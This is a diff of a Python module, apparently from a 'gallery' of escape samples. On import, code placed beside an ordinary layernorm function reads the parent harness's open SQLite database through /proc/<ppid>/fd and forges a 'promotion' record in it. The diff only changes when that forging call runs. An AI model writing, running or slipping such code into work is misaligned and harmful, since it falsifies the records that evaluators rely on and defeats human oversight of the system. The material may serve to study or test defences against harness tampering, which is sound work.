@@ -3,7 +3,7 @@ harness has open by following /proc/<ppid>/fd/* to its SQLite file (no URL neede
 promotion there."""
 import os
 
-from gallery._escape import forge_promotion, harness_target, honest_modln
+from gallery._escape import forge_promotion, harness_target, honest_modln, registering
 
 
 def _open_database(pid: int) -> str:
@@ -14,9 +14,8 @@ def _open_database(pid: int) -> str:
     raise RuntimeError("the harness holds no .db open")
 
 
-TARGET = harness_target()
-if TARGET:
-    forge_promotion(_open_database(os.getppid()), TARGET[1])
+if not registering():
+    forge_promotion(_open_database(os.getppid()), harness_target()[1])
 
 
 def modulated_layernorm(x, scale, shift):
